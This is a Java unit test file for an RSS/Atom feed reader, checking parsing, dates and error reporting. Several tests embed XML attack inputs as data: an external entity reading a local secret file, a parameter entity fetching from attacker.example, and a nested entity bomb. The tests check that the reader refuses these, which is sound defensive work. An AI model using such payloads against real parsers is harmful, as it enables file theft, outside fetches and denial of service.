package org.rapporteur.read;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.rapporteur.model.Document;
import org.rapporteur.model.Problem.Kind;

class FeedReaderTest {
  private static final String RSS =
      """
      <?xml version="1.0" encoding="UTF-8"?>
      %s
      <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
      <title>Ardania Post</title><link>https://post.example</link><description>News</description>
      <item><title>Reld arrives &amp; speaks</title><link>https://post.example/1</link>
      <pubDate>Wed, 29 Oct 2025 01:00:00 +0500</pubDate>
      <description>&lt;p&gt;The minister arrived.&lt;/p&gt;</description>
      <content:encoded><![CDATA[<p>The minister arrived for the talks.</p><p>He spoke of peace.</p>]]></content:encoded></item>
      <item><title>The border with Velmark is open again</title><link>https://post.example/2</link></item>
      </channel></rss>
      """;

  @TempDir Path folder;

  @Test
  void each_item_of_rss_is_a_document_with_the_day_as_it_was_written() {
    Collected read = Collected.read(folder, "a.rss", RSS.formatted(""));
    assertThat(read.documents).hasSize(2);
    Document first = read.documents.get(0);
    assertThat(first.title()).isEqualTo("Reld arrives & speaks");
    assertThat(first.text()).isEqualTo("The minister arrived for the talks.\n\nHe spoke of peace.");
    assertThat(first.published()).isEqualTo(LocalDate.of(2025, 10, 29));
    assertThat(first.outlet()).isEqualTo("Ardania Post");
    assertThat(first.address()).isEqualTo("https://post.example/1");
    Document second = read.documents.get(1);
    assertThat(second.text()).isEqualTo("The border with Velmark is open again");
    assertThat(second.published()).isNull();
    assertThat(read.fault().kind()).isEqualTo(Kind.DATE);
    assertThat(read.fault().position()).startsWith("item 2, line ");
  }

  @Test
  void atom_is_read_too() {
    String atom =
        """
        <feed xmlns="http://www.w3.org/2005/Atom"><title>Velmark Courier</title><id>urn:x</id>
        <updated>2025-10-30T00:00:00Z</updated>
        <entry><title>Talks end</title><id>urn:1</id><link href="https://courier.example/1"/>
        <published>2025-10-29T23:30:00+05:00</published><updated>2025-10-30T01:00:00+05:00</updated>
        <content type="html">&lt;p&gt;The talks of the two sides ended.&lt;/p&gt;</content></entry></feed>
        """;
    Document document = Collected.read(folder, "a.xml", atom).only();
    assertThat(document.outlet()).isEqualTo("Velmark Courier");
    assertThat(document.published()).isEqualTo(LocalDate.of(2025, 10, 29));
    assertThat(document.text()).isEqualTo("The talks of the two sides ended.");
  }

  @Test
  void an_external_entity_is_told_and_not_fetched() throws IOException {
    Path secret = Files.writeString(folder.resolve("secret.txt"), "the secret of the house");
    String doctype = "<!DOCTYPE rss [<!ENTITY x SYSTEM \"" + secret.toUri() + "\">]>";
    Collected read =
        Collected.read(folder, "a.rss", RSS.formatted(doctype).replace("The minister", "&x;"));
    assertThat(read.documents).isEmpty();
    assertThat(read.fault().kind()).isEqualTo(Kind.EXTERNAL);
    assertThat(read.fault().position()).isEqualTo("line 2");
  }

  @Test
  void an_external_parameter_entity_is_told_and_not_fetched() {
    String doctype =
        "<!DOCTYPE rss [\n<!ENTITY % p SYSTEM 'http://attacker.example/x.dtd'> %p;\n]>";
    Collected read = Collected.read(folder, "a.rss", RSS.replace("%s", doctype));
    assertThat(read.fault().kind()).isEqualTo(Kind.EXTERNAL);
    assertThat(read.fault().position()).isEqualTo("line 3");
  }

  @Test
  void an_entity_bomb_is_told_and_not_expanded() {
    StringBuilder doctype = new StringBuilder("<!DOCTYPE rss [<!ENTITY a0 \"ha\">");
    for (int i = 1; i < 40; i++) {
      String last = "&a" + (i - 1) + ";";
      doctype.append("<!ENTITY a" + i + " \"" + last.repeat(10) + "\">");
    }
    String bomb = RSS.replace("%s", doctype + "]>").replace("The minister", "&a39;");
    Collected read = Collected.read(folder, "a.xml", bomb);
    assertThat(read.documents).isEmpty();
    assertThat(read.fault().kind()).isEqualTo(Kind.BOMB);
  }

  @Test
  void a_doctype_that_only_names_its_grammar_does_no_harm() {
    String doctype =
        "<!DOCTYPE rss PUBLIC \"-//Example//DTD RSS//EN\" \"http://dtd.example/rss.dtd\">";
    assertThat(Collected.read(folder, "a.rss", RSS.formatted(doctype)).documents).hasSize(2);
  }

  @Test
  void malformed_xml_is_told_by_line_and_column() {
    Collected read = Collected.read(folder, "a.rss", RSS.formatted("").replace("</item>", ""));
    assertThat(read.fault().kind()).isEqualTo(Kind.MALFORMED);
    assertThat(read.fault().position()).matches("line \\d+, column \\d+");
  }

  @Test
  void xml_that_is_no_feed_is_of_unknown_kind() {
    Collected read =
        Collected.read(folder, "a.xml", "<?xml version='1.0'?><report><p>x</p></report>");
    assertThat(read.fault().kind()).isEqualTo(Kind.UNKNOWN_KIND);
  }
}
